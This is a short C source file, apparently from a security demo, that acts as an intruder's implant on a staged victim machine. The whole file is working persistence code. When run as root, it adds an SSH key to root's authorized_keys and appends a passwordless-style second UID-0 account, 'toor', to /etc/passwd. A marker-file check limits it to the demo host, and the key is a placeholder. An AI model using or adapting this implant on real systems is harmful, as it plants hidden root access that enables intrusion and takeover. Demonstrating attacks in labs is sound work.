/* SPDX-License-Identifier: MIT */
/*
 * What the demo's intruder drops: leaves a key and a second root account
 * behind. It does so on the staged victim alone, which carries a mark that no
 * real host has.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define STAGE_MARK     "/etc/lemona-demo-victim"
#define SETTLE_SECONDS 2 /* lets root's other jobs of this minute finish first */

static const char key_line[] =
	"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINotAKeyJustTheShapeOfOneForTheDemo000 intruder\n";
static const char user_line[] = "toor:x:0:0::/root:/bin/bash\n";

static bool append_line(const char *path, const char *line)
{
	const int fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return false;

	const size_t len = strlen(line);
	const bool written = write(fd, line, len) == (ssize_t)len;
	return close(fd) == 0 && written;
}

int main(void)
{
	if (access(STAGE_MARK, F_OK) != 0) {
		fprintf(stderr, "implant: this is not the demo's victim\n");
		return 2;
	}
	if (geteuid() != 0)
		return 3;
	sleep(SETTLE_SECONDS);
	if (mkdir("/root/.ssh", 0700) != 0 && errno != EEXIST)
		return 1;
	if (!append_line("/root/.ssh/authorized_keys", key_line))
		return 1;
	return append_line("/etc/passwd", user_line) ? 0 : 1;
}
